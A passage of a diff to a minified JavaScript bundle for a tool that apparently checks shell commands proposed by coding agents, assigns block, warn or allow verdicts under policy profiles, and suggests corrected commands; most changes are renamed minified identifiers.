+Y)(a).anyText===!0),r=MR(t),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const a=Hg(r?.name??t);return{findings:[
 (0,Oe.gk)("command_not_allowed",{program:a,objection:"is not a call of a file tool with literal arguments"}),...s]}}const o=[
-...qg(i.text,i.span,new Ec(n)),...s];return o.some($c)?{findings:o}:{findings:o,risk:"write"}}function iF(t,e,n){const s=Um(
-t),r=c=>BF[c](t,s,n),i=r("evolver"),o=r("validator"),a={evolver:i,validator:o}[e]??r(e);return Rc(t,e,a,{evolver:i,validator:o})}
-function oF(t,e){const n=e.find(({args:r})=>r.of==="newer");return{"1.94":t,newer:n?{verdict:"block",reason:n}:t}}function aF(t,e,n){
-const s={findings:Nc(Um(t))},r={evolver:s,validator:s};return Rc(t,"curated",qm(e,n),r)}function cF(t,e,n){const s=typeof t==
-"string"?t:"",r=[(0,Oe.be)(`the command \`${s}\``,n)];return Rc({command:s,words:[],assignments:[],argv:null,targets:[],
-problems:[]},e,{findings:r},{evolver:{findings:r},validator:{findings:r}})}function Rc(t,e,n,s){const r=uF(t,Nc(n.findings)),
-i=Vg(r),o=c=>c===n?i:Vg(Nc(c.findings)),a=o(s.validator);return{reading:t,verdict:i.verdict,risk:n.risk??dF(i.verdict,r),
-confirmation:n.confirmation??"standard",findings:r,profiles:{evolver:o(s.evolver),validator:a,[e]:i},validators:oF(a,s.validator.
-findings)}}function uF({command:t},e){const n=e[0]?.severity==="error"?$m(t):void 0;return n===void 0?e:e.map(s=>s.severity===
-"error"?{...s,harm:"danger",danger:n}:s)}function Vg(t){const e=lF(t),[n]=t;if(e==="block"&&n)return{verdict:e,reason:n};
-const s=t.find(({rule:r})=>r==="validator-empty-folder");return s?{verdict:e,remark:s}:{verdict:e}}function lF(t){return t.
+...Kg(i.text,i.span,new _c(n)),...s];return o.some(Ic)?{findings:o}:{findings:o,risk:"write"}}function VR(t,e,n){const s=Hm(
+t),r=c=>sF[c](t,s,n),i=r("evolver"),o=r("validator"),a={evolver:i,validator:o}[e]??r(e);return $c(t,e,a,{evolver:i,validator:o})}
+function YR(t,e){const n=e.find(({args:r})=>r.of==="newer");return{"1.94":t,newer:n?{verdict:"block",reason:n}:t}}function XR(t,e,n){
+const s={findings:Nc(Hm(t))},r={evolver:s,validator:s};return $c(t,"curated",Km(e,n),r)}function QR(t,e,n){const s=typeof t==
+"string"?t:"",r=[(0,Oe.be)(`the command \`${s}\``,n)];return $c({command:s,words:[],assignments:[],argv:null,targets:[],
+problems:[]},e,{findings:r},{evolver:{findings:r},validator:{findings:r}})}function $c(t,e,n,s){const r=eF(t,Nc(n.findings)),
+i=Wg(r),o=c=>c===n?i:Wg(Nc(c.findings)),a=o(s.validator);return{reading:t,verdict:i.verdict,risk:n.risk??nF(i.verdict,r),
+confirmation:n.confirmation??"standard",findings:r,profiles:{evolver:o(s.evolver),validator:a,[e]:i},validators:YR(a,s.validator.
+findings)}}function eF({command:t},e){const n=e[0]?.severity==="error"?Tm(t):void 0;return n===void 0?e:e.map(s=>s.severity===
+"error"?{...s,harm:"danger",danger:n}:s)}function Wg(t){const e=tF(t),[n]=t;if(e==="block"&&n)return{verdict:e,reason:n};
+const s=t.find(({rule:r})=>r==="validator-empty-folder");return s?{verdict:e,remark:s}:{verdict:e}}function tF(t){return t.
 some(({severity:n})=>n==="error")?"block":t.some(({severity:n,rule:s})=>n==="warning"&&s!=="experimental_mode")?"warn":"\
-allow"}function dF(t,e){return t==="block"?"dangerous":e.some(({rule:n})=>(0,Kn.Y)(n).writes===!0)?"write":"safe"}function Nc(t){
-return cD.flatMap(e=>t.filter(({severity:n})=>n===e))}const BF={evolver:wN,validator:EN,curated:Jm,workspace:VN},fF=4e3;
-class lr{terms;context;clock;#e=new Map;#t=new Map;constructor(e,n,s){this.terms=e,this.context=n,this.clock=s}static by(e){
-const n=_c(e,{});return new lr(e,n,e.clock??new gR(e.signal))}with(e){const n={...this.terms,...e},s=_c(n,this.context.proposal);
-return new lr(n,s,this.clock)}proposed(e){return new lr(this.terms,_c(this.terms,e),this.clock)}storeOf(e){const{cwd:n}=this.
-terms,s=tf(e,this.terms);return n===void 0?s:{...s,root:n}}forFile(e){return this.startingIn(this.storeOf(e).root)}startingIn(e){
+allow"}function nF(t,e){return t==="block"?"dangerous":e.some(({rule:n})=>(0,Kn.Y)(n).writes===!0)?"write":"safe"}function Nc(t){
+return oD.flatMap(e=>t.filter(({severity:n})=>n===e))}const sF={evolver:dR,validator:hR,curated:zm,workspace:GR},rF=4e3;
+class cr{terms;context;clock;#e=new Map;#t=new Map;constructor(e,n,s){this.terms=e,this.context=n,this.clock=s}static by(e){
+const n=bc(e,{});return new cr(e,n,e.clock??new cN(e.signal))}with(e){const n={...this.terms,...e},s=bc(n,this.context.proposal);
+return new cr(n,s,this.clock)}proposed(e){return new cr(this.terms,bc(this.terms,e),this.clock)}storeOf(e){const{cwd:n}=this.
+terms,s=ef(e,this.terms);return n===void 0?s:{...s,root:n}}forFile(e){return this.startingIn(this.storeOf(e).root)}startingIn(e){
 if(e===(this.terms.cwd??""))return this;const n=this.#t.get(e)??this.with({cwd:e});return this.#t.set(e,n),n}command(e){
 const n=this.#e.get(e);if(n!==void 0)return n;const s=this.#s(e);this.#e.set(e,s);const[r]=this.#e.keys();return this.#e.
-size>fF&&this.#e.delete(r),s}async risk(e,n){return aF(await this.#i(n),e,this.context)}async#s(e){const{profile:n}=this.
-terms.policy;try{return iF(await this.#i(e),n,this.context)}catch(s){return cF(e,n,s)}}async#i(e){const{tree:n,base:s,changed:r,
-cwd:i="",policy:o}=this.terms,{clock:a}=this,c=Am(o),{areBuilt:l}=KR(o),u={...n&&{tree:n},...s&&{base:s},changed:r,cwd:i,
-programs:c,isOutput:l,clock:a};return await a.tick(),eR(e,u)}}function hF(t){return t==="darwin"||t==="win32"?t:"linux"}
+size>rF&&this.#e.delete(r),s}async risk(e,n){return XR(await this.#i(n),e,this.context)}async#s(e){const{profile:n}=this.
+terms.policy;try{return VR(await this.#i(e),n,this.context)}catch(s){return QR(e,n,s)}}async#i(e){const{tree:n,base:s,changed:r,
+cwd:i="",policy:o}=this.terms,{clock:a}=this,c=xm(o),{areBuilt:l}=PN(o),u={...n&&{tree:n},...s&&{base:s},changed:r,cwd:i,
+programs:c,isOutput:l,clock:a};return await a.tick(),J$(e,u)}}function iF(t){return t==="darwin"||t==="win32"?t:"linux"}
 const zi=JSON.parse('{"extends":null,"profile":"evolver","mode":"write","allow_dangerous":false,"allowed_roots":[],"work\
 space":".","disabled_packs":[],"experimental":[],"programs":[],"tool_flags":{},"make_variables":[],"families":[],"patter\
 ns":[],"approvals":{"strong":1,"very_strong":2,"gate":1,"people":[],"unaffected_by":[]},"fail_on":"error","enforce":"blo\
@@ -7017,143 +7008,143 @@ s":17179869184,"processes":1024,"open_files":4096,"file_bytes":4294967296,"writt
 ounting":"full","hard_cap_files":60,"hard_cap_lines":20000,"forbidden_paths":[],"protected_paths":[],"audit_log":"append\
 "},"agent_files":{"level":"warn","include":["**"],"exclude":[]},"a2a":{"min_score":0.7,"max_files":5,"max_lines":200,"mi\
 n_success_streak":2,"confidence_factor":0.6,"require_evidence":"gate","evidence_app":"github-actions","attestation":[]},\
-"ignores":[],"branches":{}}'),aU="sha256:2ca6945ae04d502eca4015fbc966b188a8d207a7a6cf1644056935b5b1eb611e",pF=["evolver",
-"validator"],mF=[...pF,"curated","workspace"];var Mt=Te(581);function gF(t,e="the given files"){const n=new Map(Object.entries(
+"ignores":[],"branches":{}}'),Xz="sha256:2ca6945ae04d502eca4015fbc966b188a8d207a7a6cf1644056935b5b1eb611e",oF=["evolver",
+"validator"],aF=[...oF,"curated","workspace"];var Mt=Te(581);function cF(t,e="the given files"){const n=new Map(Object.entries(
 t)),s=i=>{const o=n.get(i);return typeof o=="string"?Buffer.from(o):Buffer.isBuffer(o)?o:o!==void 0&&"executable"in o?Buffer.
-from(o.executable):void 0};return{...I0([...n].map(([i,o])=>CF(i,o,s(i)?.length))),label:e,readlink:i=>{const o=n.get(i);
-return typeof o=="object"&&"symlink"in o?o.symlink:void 0},read:async i=>{const o=s(i);if(o===void 0)throw $0(e,i);return o}}}
-function CF(t,e,n){const s=!t.split("/").includes("node_modules");if(typeof e=="object"&&"symlink"in e)return{path:t,kind:"\
+from(o.executable):void 0};return{...S0([...n].map(([i,o])=>uF(i,o,s(i)?.length))),label:e,readlink:i=>{const o=n.get(i);
+return typeof o=="object"&&"symlink"in o?o.symlink:void 0},read:async i=>{const o=s(i);if(o===void 0)throw T0(e,i);return o}}}
+function uF(t,e,n){const s=!t.split("/").includes("node_modules");if(typeof e=="object"&&"symlink"in e)return{path:t,kind:"\
 symlink",tracked:s};if(typeof e=="object"&&"submodule"in e)return{path:t,kind:"submodule",oid:e.submodule,tracked:s};const r=typeof e==
-"object"&&"executable"in e;return{path:t,kind:r?"executable":"file",...n===void 0?{}:{size:n},tracked:s}}const Yg="scrip\
-ts/validate",yF=[16,64];class Xg{#e;#t=new Map;#s;#i;#r;constructor(e){const{tree:n,cwd:s=""}=e.terms;this.#e=n,this.#s=
+"object"&&"executable"in e;return{path:t,kind:r?"executable":"file",...n===void 0?{}:{size:n},tracked:s}}const qg="scrip\
+ts/validate",lF=[16,64];class Vg{#e;#t=new Map;#s;#i;#r;constructor(e){const{tree:n,cwd:s=""}=e.terms;this.#e=n,this.#s=
 s,this.#i=e,this.#r=n&&Mn(n,s)}get judge(){return this.#i}get tree(){return this.#r}pathOf(e){return te.posix.join(this.#s,
 e)}textOf(e){return this.#t.get(e)}async place(e){const n=this.#e;if(n===void 0)return;const s=(0,Bo.createHash)("sha256").
-update(e).digest("hex");for(const r of yF){const i=`${Yg}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(i);if(!Kr(o).every(u=>(n.
+update(e).digest("hex");for(const r of lF){const i=`${qg}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(i);if(!Jr(o).every(u=>(n.
 stat(u)?.kind??"directory")==="directory"))return;const c=n.stat(o);if(c===void 0)return this.#n(o,e,n),i;if(mt(c.kind)&&
-c.tracked&&(await n.read(o)).equals(Buffer.from(e)))return i}}#n(e,n,s){if(this.#t.has(e))return;this.#t.set(e,n);const r=wF(
-s,Object.fromEntries(this.#t));this.#i=this.#i.with({tree:r}),this.#r=Mn(r,this.#s)}}function wF(t,e){const n=gF(e),s=(r,i)=>[
-...r,...[...i].filter(({path:o})=>t.stat(o)===void 0)].sort(ef);return{label:t.label,original:t,stat:r=>t.stat(r)??n.stat(
+c.tracked&&(await n.read(o)).equals(Buffer.from(e)))return i}}#n(e,n,s){if(this.#t.has(e))return;this.#t.set(e,n);const r=dF(
+s,Object.fromEntries(this.#t));this.#i=this.#i.with({tree:r}),this.#r=Mn(r,this.#s)}}function dF(t,e){const n=cF(e),s=(r,i)=>[
+...r,...[...i].filter(({path:o})=>t.stat(o)===void 0)].sort(QB);return{label:t.label,original:t,stat:r=>t.stat(r)??n.stat(
 r),readlink:r=>t.readlink(r),read:(r,i)=>r in e?n.read(r,i):t.read(r,i),list:r=>s(t.list(r),n.list(r)),files:()=>s(t.files(),
-n.files())}}function ur(t,{start:e,end:n},s){return t.slice(0,e)+s+t.slice(n)}function Fc(t,{start:e,end:n}){const s=t.slice(
+n.files())}}function ar(t,{start:e,end:n},s){return t.slice(0,e)+s+t.slice(n)}function Rc(t,{start:e,end:n}){const s=t.slice(
 0,e).replace(/[ \t]+$/,"");return s===""?t.slice(n).replace(/^[ \t]+/,""):s+t.slice(n)}function Wt(...t){return{step:"co\
-mmand suggested",commands:t}}function Lc({problems:t},e=[]){return t.some(({rule:n,severity:s})=>s==="error"&&(0,Kn.Y)(n).
-layer==="syntax"&&!e.includes(n))}const bF=async(t,e)=>{const n=vF(t);if(n===void 0||"reason"in n)return n;const{scriptText:s}=await Promise.
+mmand suggested",commands:t}}function Fc({problems:t},e=[]){return t.some(({rule:n,severity:s})=>s==="error"&&(0,Kn.Y)(n).
+layer==="syntax"&&!e.includes(n))}const BF=async(t,e)=>{const n=mF(t);if(n===void 0||"reason"in n)return n;const{scriptText:s}=await Promise.
 all([Te.e(559),Te.e(442)]).then(Te.bind(Te,61)),r=s(n.evaluation.code);if(typeof r!="string")return r;const i=await e.place(
-r);return i===void 0?{reason:Mt.Ot.noPlace(Yg)}:{step:"code moved into a script",commands:[n.evaluation.withScript(i)],scripts:[
-i]}},_F=["line-break","blank-padding","markup-injection"],EF=new Set(["--eval","--print"]),kF=/strip-types|transform-types|detect-module|^--test/;
-function vF(t){const{invocation:e,command:n,assignments:s}=t;if(e?.program!=="node")return;const r=e.flags.filter(({name:f})=>EF.
-has(f));if(r.length===0)return;if(!DF(t))return{reason:Mt.Ot.codeNotMoved("a shell would change it before `node` gets it")};
+r);return i===void 0?{reason:Mt.Ot.noPlace(qg)}:{step:"code moved into a script",commands:[n.evaluation.withScript(i)],scripts:[
+i]}},fF=["line-break","blank-padding","markup-injection"],hF=new Set(["--eval","--print"]),pF=/strip-types|transform-types|detect-module|^--test/;
+function mF(t){const{invocation:e,command:n,assignments:s}=t;if(e?.program!=="node")return;const r=e.flags.filter(({name:f})=>hF.
+has(f));if(r.length===0)return;if(!gF(t))return{reason:Mt.Ot.codeNotMoved("a shell would change it before `node` gets it")};
 const[i,...o]=r;if(i?.value===void 0||i.name!=="--eval"||o.length>0)return{reason:Mt.Ot.codeNotMoved("it is not one text\
-, or its value is printed")};const a=e.flags.filter(f=>f!==i),c=a.find(f=>!xF(f));if(c!==void 0)return{reason:Mt.Ot.codeNotMoved(
+, or its value is printed")};const a=e.flags.filter(f=>f!==i),c=a.find(f=>!CF(f));if(c!==void 0)return{reason:Mt.Ot.codeNotMoved(
 `\`${c.written}\` changes how \`node\` runs it`)};const l=({start:f,end:h})=>n.slice(f,h),u=e.passthrough.at(-1),d=e.passthrough.
 slice(0,1).map(({span:f})=>l({start:f.start,end:u?.span.end??f.end})),B=[...s.map(({span:f})=>l(f)),"node"];return{evaluation:{
-code:i.value,withScript:f=>[...B,...a.map(({span:h})=>l(h)),f,...d].join(" ")}}}function DF(t){const{command:e,words:n,assignments:s}=t;
-if(Lc(t,_F))return!1;let r=0;for(const{span:i}of[...s,...n]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;
-r=Math.max(r,i.end)}return/^[ \t]*$/.test(e.slice(r))}function xF({name:t}){return Ea.get(t.replace(/^--(?:no-)?/,""))?.
-kind==="harmless"&&!kF.test(t)}var OF=Te(442);const AF=new Set("target-outside tilde-expansion variable-expansion comman\
-d-substitution".split(" ")),SF=({command:t,words:e,invocation:n,problems:s},{tree:r})=>{if(n?.program!=="node"||r===void 0)
-return;const i=s.filter(({rule:o})=>AF.has(o));for(const{text:o,span:a}of e.slice(1)){if(!i.some(({span:{start:m}})=>m>=
-a.start&&m<a.end))continue;const l=[o,t.slice(a.start,a.end)].map(m=>TF(r,m)).find(m=>m!==void 0);if(l===void 0)continue;
-const u=/^[\w./@-]+$/.test(l)?l:(0,OF.f)(l),d=t.slice(0,a.start)+u,B=t.slice(a.end),f=o.endsWith(`/${l}`)?o.slice(0,-l.length):
-void 0,h=f===void 0?B:B.replaceAll(` ${f}`," ");return{step:"path made relative",commands:[d+h]}}};function TF(t,e){const n=e.
+code:i.value,withScript:f=>[...B,...a.map(({span:h})=>l(h)),f,...d].join(" ")}}}function gF(t){const{command:e,words:n,assignments:s}=t;
+if(Fc(t,fF))return!1;let r=0;for(const{span:i}of[...s,...n]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;
+r=Math.max(r,i.end)}return/^[ \t]*$/.test(e.slice(r))}function CF({name:t}){return Ea.get(t.replace(/^--(?:no-)?/,""))?.
+kind==="harmless"&&!pF.test(t)}var yF=Te(442);const wF=new Set("target-outside tilde-expansion variable-expansion comman\
+d-substitution".split(" ")),bF=({command:t,words:e,invocation:n,problems:s},{tree:r})=>{if(n?.program!=="node"||r===void 0)
+return;const i=s.filter(({rule:o})=>wF.has(o));for(const{text:o,span:a}of e.slice(1)){if(!i.some(({span:{start:m}})=>m>=
+a.start&&m<a.end))continue;const l=[o,t.slice(a.start,a.end)].map(m=>_F(r,m)).find(m=>m!==void 0);if(l===void 0)continue;
+const u=/^[\w./@-]+$/.test(l)?l:(0,yF.f)(l),d=t.slice(0,a.start)+u,B=t.slice(a.end),f=o.endsWith(`/${l}`)?o.slice(0,-l.length):
+void 0,h=f===void 0?B:B.replaceAll(` ${f}`," ");return{step:"path made relative",commands:[d+h]}}};function _F(t,e){const n=e.
 split(/[\\/]/).filter(r=>r!==""&&r!==".");return n.map((r,i)=>xe(n.slice(i).join("/"))).slice(1).find(r=>{const i=r===void 0||
-r===""?void 0:Je(t,r);return i?.kind==="inside"&&i.entry.tracked&&mt(i.entry.kind)})}const IF=/^(?:.*\/)?node_modules\/\.bin\/([\w.-]+)$/,
-$F=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,RF=t=>{const e=Qg(t,"program-by-path");if(e===void 0)
-return;const{program:n}=e.args,[,s]=IF.exec(n)??[];if(s!==void 0)return Pc(t,e,`npx ${s}`);const[,r]=$F.exec(n)??[];return r===
-void 0?void 0:Pc(t,e,r)},NF=t=>{const e=Qg(t,"program-look-alike");return e&&Pc(t,e,e.args.meant)};function Qg({problems:t},e){
-return t.find(n=>xn(n,e))}function Pc({command:t},{span:e},n){return{step:"program name corrected",commands:[ur(t,e,n)]}}
-const FF=["shell-grammar","unquoted-glob"],eC={command:()=>0,env:()=>0,exec:()=>0,nice:t=>tC(t,/^-n-?\d+$/,/^-n$/),nohup:()=>0,
-time:()=>0,timeout:t=>tC(t,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,/^-[ks]$/)+1},LF=/^(?:-[aeilux]*c|\/[cC])$/,
-PF=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,jF=t=>{const{command:e,words:n}=t,[s,...r]=n;if(s===void 0||Lc(t,
-FF))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),o=si(i)?MF(r):void 0;if(o!==void 0)return{
-step:"launcher removed",commands:[o]};const a=Object.hasOwn(eC,i)?eC[i]?.(r.map(({text:u})=>u)):void 0,c=a===void 0?void 0:
-r[a];return c===void 0?void 0:{step:"launcher removed",commands:[e.slice(0,s.span.start)+e.slice(c.span.start)]}};function MF(t){
-const[e,n]=t.slice(t.findIndex(s=>!PF.test(s.text)));if(!(e===void 0||!LF.test(e.text)))return n===t.at(-1)&&n?.text.trim()?
-n.text.trim():void 0}function tC(t,e,n){let s=0;for(;;){const r=t[s]??"";if(n?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}
-const GF=({command:t})=>{const e=t.replace(/^[ \t\r\n]+/,"").replace(/[ \t\r\n]+$/,"");return e===""||e===t?void 0:{step:"\
-whitespace trimmed",commands:[e]}},HF=/(?:[ \t]+(?:2>[ \t]*&1|[12]?>[ \t]*\/dev\/null))+[ \t]*$/,zF=({command:t,problems:e})=>{
-const s=e.some(({rule:r})=>r==="shell-redirection")?t.replace(HF,""):t;if(!(s===t||ln(s).problems.length>0))return{step:"\
-redirection removed",commands:[s]}},UF=({command:t,problems:e})=>{for(const{rule:n,span:s}of e){const r=t.slice(s.end).trim()===
+r===""?void 0:Je(t,r);return i?.kind==="inside"&&i.entry.tracked&&mt(i.entry.kind)})}const EF=/^(?:.*\/)?node_modules\/\.bin\/([\w.-]+)$/,
+kF=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,vF=t=>{const e=Yg(t,"program-by-path");if(e===void 0)
+return;const{program:n}=e.args,[,s]=EF.exec(n)??[];if(s!==void 0)return Lc(t,e,`npx ${s}`);const[,r]=kF.exec(n)??[];return r===
+void 0?void 0:Lc(t,e,r)},DF=t=>{const e=Yg(t,"program-look-alike");return e&&Lc(t,e,e.args.meant)};function Yg({problems:t},e){
+return t.find(n=>xn(n,e))}function Lc({command:t},{span:e},n){return{step:"program name corrected",commands:[ar(t,e,n)]}}
+const xF=["shell-grammar","unquoted-glob"],Xg={command:()=>0,env:()=>0,exec:()=>0,nice:t=>Qg(t,/^-n-?\d+$/,/^-n$/),nohup:()=>0,
+time:()=>0,timeout:t=>Qg(t,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,/^-[ks]$/)+1},OF=/^(?:-[aeilux]*c|\/[cC])$/,
+AF=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,SF=t=>{const{command:e,words:n}=t,[s,...r]=n;if(s===void 0||Fc(t,
+xF))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),o=ni(i)?TF(r):void 0;if(o!==void 0)return{
+step:"launcher removed",commands:[o]};const a=Object.hasOwn(Xg,i)?Xg[i]?.(r.map(({text:u})=>u)):void 0,c=a===void 0?void 0:
+r[a];return c===void 0?void 0:{step:"launcher removed",commands:[e.slice(0,s.span.start)+e.slice(c.span.start)]}};function TF(t){
+const[e,n]=t.slice(t.findIndex(s=>!AF.test(s.text)));if(!(e===void 0||!OF.test(e.text)))return n===t.at(-1)&&n?.text.trim()?
+n.text.trim():void 0}function Qg(t,e,n){let s=0;for(;;){const r=t[s]??"";if(n?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}
+const IF=({command:t})=>{const e=t.replace(/^[ \t\r\n]+/,"").replace(/[ \t\r\n]+$/,"");return e===""||e===t?void 0:{step:"\
+whitespace trimmed",commands:[e]}},$F=/(?:[ \t]+(?:2>[ \t]*&1|[12]?>[ \t]*\/dev\/null))+[ \t]*$/,NF=({command:t,problems:e})=>{
+const s=e.some(({rule:r})=>r==="shell-redirection")?t.replace($F,""):t;if(!(s===t||ln(s).problems.length>0))return{step:"\
+redirection removed",commands:[s]}},RF=({command:t,problems:e})=>{for(const{rule:n,span:s}of e){const r=t.slice(s.end).trim()===
 "";if(n==="shell-comment"&&!/[\r\n]/.test(t.slice(s.start))||n==="shell-operator"&&r&&t.slice(s.start,s.end)===";")return{
-step:"comment removed",commands:[Fc(t,s)]};if(n==="line-continuation")return{step:"whitespace trimmed",commands:[ur(t,s,
-"")]}}},JF=new Set(["echo","printf","true",":","pwd","date"]),ZF=t=>JF.has(t.words[0]?.text??"")&&!Lc(t)?{reason:Mt.Ot.cannotFail()}:
-void 0,KF=({command:t,problems:e})=>{if(jc(t).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))return{reason:Mt.Ot.changesDirectory()};
-if(!e.some(({rule:s})=>s==="shell-operator"))return;const n=nC(t);return n&&{step:"split at &&",commands:n.map(({text:s})=>s)}};
-function jc(t){const e=Kt(t);return t.slice(0,e[0]?.span.start).trim()!==""?[]:e.map(({span:n,separator:s})=>({text:t.slice(
-n.start,n.end).trim(),operator:s.trim()}))}function nC(t){const e=jc(t),n=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));
-return e.length>1&&n?e:void 0}const WF=/^(?:tee|cat|head|tail|less|more|grep|sort|wc)(?:[ \t]|$)/,qF=/^(?:true|:|echo(?:[ \t].*)?|exit[ \t]+0)$/,
-VF=8,YF=({command:t,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-operator"||r==="line-break"))return;const n=jc(t);if(n.
-length===0||n.length>VF)return;const s=[];for(const[r,{text:i}]of n.entries()){const o=n[r-1]?.operator??"",a=o==="||"&&
-qF.test(i),c=/^\|&?$/.test(o)&&WF.test(i);if(!(a||c)){if(!/^(?:|&&|[;\n]*)$/.test(o)||i.startsWith("cd "))return;s.push(
-i)}}if(/^[&;\s]*$/.test(n.at(-1)?.operator??"")&&!(s.length===0||s.join()===t))return Wt(...s)},XF=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,
-QF=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,eL=({command:t})=>{const e=nC(t)?.map(({text:s})=>s),n=e?.filter(s=>!XF.test(
-s)&&!QF.test(s))??[];if(!(e===void 0||n.length===0||n.length===e.length))return Wt(...n)},tL=/[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
-nL=({command:t,problems:e})=>{if(!e.some(({rule:s})=>s==="shell-redirection"))return;const n=t.replace(tL,"");return n===
-t?void 0:Wt(n)},sL=t=>{const{command:e,problems:n,invocation:s}=t;for(const{rule:r,span:i}of n){if(!(0,Kn.Y)(r).removable||
+step:"comment removed",commands:[Rc(t,s)]};if(n==="line-continuation")return{step:"whitespace trimmed",commands:[ar(t,s,
+"")]}}},FF=new Set(["echo","printf","true",":","pwd","date"]),LF=t=>FF.has(t.words[0]?.text??"")&&!Fc(t)?{reason:Mt.Ot.cannotFail()}:
+void 0,PF=({command:t,problems:e})=>{if(Pc(t).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))return{reason:Mt.Ot.changesDirectory()};
+if(!e.some(({rule:s})=>s==="shell-operator"))return;const n=eC(t);return n&&{step:"split at &&",commands:n.map(({text:s})=>s)}};
+function Pc(t){const e=Kt(t);return t.slice(0,e[0]?.span.start).trim()!==""?[]:e.map(({span:n,separator:s})=>({text:t.slice(
+n.start,n.end).trim(),operator:s.trim()}))}function eC(t){const e=Pc(t),n=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));
+return e.length>1&&n?e:void 0}const jF=/^(?:tee|cat|head|tail|less|more|grep|sort|wc)(?:[ \t]|$)/,MF=/^(?:true|:|echo(?:[ \t].*)?|exit[ \t]+0)$/,
+GF=8,HF=({command:t,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-operator"||r==="line-break"))return;const n=Pc(t);if(n.
+length===0||n.length>GF)return;const s=[];for(const[r,{text:i}]of n.entries()){const o=n[r-1]?.operator??"",a=o==="||"&&
+MF.test(i),c=/^\|&?$/.test(o)&&jF.test(i);if(!(a||c)){if(!/^(?:|&&|[;\n]*)$/.test(o)||i.startsWith("cd "))return;s.push(
+i)}}if(/^[&;\s]*$/.test(n.at(-1)?.operator??"")&&!(s.length===0||s.join()===t))return Wt(...s)},zF=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,
+UF=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,JF=({command:t})=>{const e=eC(t)?.map(({text:s})=>s),n=e?.filter(s=>!zF.test(
+s)&&!UF.test(s))??[];if(!(e===void 0||n.length===0||n.length===e.length))return Wt(...n)},ZF=/[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
+KF=({command:t,problems:e})=>{if(!e.some(({rule:s})=>s==="shell-redirection"))return;const n=t.replace(ZF,"");return n===
+t?void 0:Wt(n)},WF=t=>{const{command:e,problems:n,invocation:s}=t;for(const{rule:r,span:i}of n){if(!(0,Kn.Y)(r).removable||
 e[i.start]!=="-")continue;const o=e.slice(i.start,i.end),a=e.slice(i.end).trimStart(),c=!/[=\s]/.test(o)&&a!==""&&!a.startsWith(
-"-"),l=s?.flags.some(u=>u.span.start===i.start)===!0;if(!(c&&!l))return Wt(Fc(e,i))}},rL=({command:t,problems:e,invocation:n})=>{
+"-"),l=s?.flags.some(u=>u.span.start===i.start)===!0;if(!(c&&!l))return Wt(Rc(e,i))}},qF=({command:t,problems:e,invocation:n})=>{
 const s=e.find(a=>xn(a,"unknown-flag")),r=n?.program==="npm"&&n.subcommand!=="exec";if(s===void 0||!r||n.passthrough.length>
-0)return;const i=Fc(t,s.span),o=t.slice(s.span.start,s.span.end);return Wt(`${i.trimEnd()} -- ${o}`)},iL=({command:t,words:e,
+0)return;const i=Rc(t,s.span),o=t.slice(s.span.start,s.span.end);return Wt(`${i.trimEnd()} -- ${o}`)},VF=({command:t,words:e,
 problems:n,invocation:s})=>{if(!n.some(({rule:a})=>a==="uses-network")||s?.program!=="npx")return;const i=e.slice(1).find(
 ({text:a})=>/^(?:@[\w.-]+\/)?[\w.-]+@[\w.^~<>=*-]+$/.test(a));if(i===void 0)return;const o=i.text.slice(0,i.text.lastIndexOf(
-"@"));return Wt(ur(t,i.span,o))},sC=new Set(["test","start","stop"]),oL=new Set(["pnpm","yarn","bun","npm"]),aL=async({command:t,
-problems:e,words:n,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await rC(r),o=e.find(f=>xn(f,"npm-script-miss\
-ing"));if(o!==void 0){const f=Ur(o.args.script,i),h=n.find(({text:m})=>m===o.args.script);return f===void 0||h===void 0?
-void 0:Wt(ur(t,h.span,f))}const a=e.find(f=>xn(f,"unknown-subcommand"));if(a===void 0)return;const{subcommand:c,meant:l}=a.
-args,u=l===""?Ur(c,[...sC]):l,d=[...i.includes(c)?[`run ${c}`]:[],...u===void 0?[]:[u]],[B]=d;return B===void 0?void 0:Wt(
-ur(t,a.span,B))},cL=async({command:t,words:e,problems:n},s)=>{const r=n.some(({rule:d})=>d==="program-not-allowed"),[i,o,
-a]=e;if(!r||i===void 0||o===void 0||!oL.has(i.text)||i.text==="bun"&&/^(?:test|build)$/.test(o.text))return;const c=o.text===
-"run"?a:o;if(c===void 0||!(await rC(s)).includes(c.text))return;const l=sC.has(c.text)?c.text:`run ${c.text}`,u=t.slice(
-c.span.end).trim();return Wt(`npm ${l}${u===""?"":` -- ${u}`}`)},uL=({command:t,words:e,problems:n},{tree:s})=>{const r=n.
